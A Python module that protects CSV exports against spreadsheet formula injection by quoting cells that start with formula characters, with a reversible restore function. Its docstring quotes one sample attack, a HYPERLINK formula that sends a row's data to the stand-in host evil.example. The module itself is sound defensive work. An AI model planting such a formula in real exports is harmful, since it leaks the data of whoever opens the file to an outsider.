"""CSV cells that a spreadsheet will not run as formulas (CSV injection, OWASP).

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or a carriage return, which
some spreadsheets skip before looking for one) is read by Excel, LibreOffice and Google Sheets as a
formula: ``=HYPERLINK("https://evil.example/?"&A1, "click")`` in a service's name would send the
row to a stranger from the machine of whoever opens the export. OWASP's advice is to put a single
quote in front of such a cell, which makes it text. The full-width forms of the four characters
are guarded as well, in case a spreadsheet folds widths before parsing (Japanese data has them).

The guard is reversible, so a file written here reads back exactly: :func:`restore` strips the
quote that :func:`neutralise` added, and nothing else. A value that already starts with quotes
followed by a formula character gets one more quote, so that it, too, comes back unchanged.

Every CSV that tipnet writes for people to open goes through :func:`neutralise` (or
:func:`writer`); every CSV it imports from its own exports goes through :func:`restore`.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
QUOTE = "'"

__all__ = ["FORMULA_START", "neutralise", "restore", "writer"]


def _guarded(value: str) -> bool:
    """Whether ``value`` needs the quote: it starts (after any quotes) with a formula character."""
    return value.lstrip(QUOTE).startswith(FORMULA_START)


def neutralise(value: str) -> str:
    """``value`` as a cell no spreadsheet evaluates."""
    return QUOTE + value if _guarded(value) else value


def restore(value: str) -> str:
    """The value :func:`neutralise` was given (``restore(neutralise(v)) == v`` for every ``v``)."""
    return value[1:] if value.startswith(QUOTE) and _guarded(value[1:]) else value


class _Writer:
    def __init__(self, out: Any, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([neutralise(cell) if isinstance(cell, str) else cell for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: Any, **options: Any) -> _Writer:
    """``csv.writer`` whose text cells are neutralised (numbers stay numbers)."""
    return _Writer(out, **options)
